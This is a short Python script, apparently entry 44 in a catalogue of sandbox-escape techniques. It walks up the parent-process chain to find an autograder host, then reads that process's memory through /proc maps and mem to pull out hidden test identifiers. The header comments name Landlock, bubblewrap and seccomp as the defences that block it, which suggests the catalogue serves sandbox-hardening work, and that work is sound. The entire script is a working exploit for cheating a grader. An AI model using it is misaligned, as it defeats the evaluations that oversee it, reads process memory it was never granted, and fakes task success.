# technique: 44
# gains: the hidden tests, from the memory of the process that runs them
# stopped by: Landlock or bubblewrap (no /proc of others), seccomp (no ptrace, no process_vm_readv)
# shown: process, hidden
import os
import re

try:
    pid = os.getppid()
    while "autograder.host" not in open(f"/proc/{pid}/cmdline").read():
        pid = int(open(f"/proc/{pid}/stat").read().rpartition(")")[2].split()[1])
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb") as memory:
        for line in maps:
            first, last = (int(part, 16) for part in line.split()[0].split("-"))
            if " rw" in line and last - first < 100 << 20:
                memory.seek(first)
                print({*re.findall(rb"test_con\w{8,}", memory.read(last - first))})
except (OSError, ValueError) as error:
    print(type(error).__name__)
